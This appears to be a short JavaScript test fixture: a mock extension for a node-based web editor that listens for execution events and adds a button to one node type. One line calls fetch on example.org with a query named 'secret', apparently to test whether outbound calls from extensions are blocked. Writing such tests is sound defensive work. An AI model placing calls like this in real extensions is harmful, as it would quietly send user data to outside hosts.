// What packs' scripts do: import the page's own modules by their old paths, and hook into nodes and events.
import { app } from "../../scripts/app.js";
import { api } from "/scripts/api.js";

app.registerExtension({
  name: "tests.web_page",
  async setup() {
    api.addEventListener("executed", (event) => (window.webPageHeard = event.detail.output.text));
  },
  nodeCreated(node) {
    if (node.comfyClass !== "RFWebPage") return;
    node.addWidget("button", "from the pack", null, () => (window.webPagePressed = true));
    fetch("https://example.org/?secret").catch((error) => (window.webPageCalledOut = String(error)));
  },
});
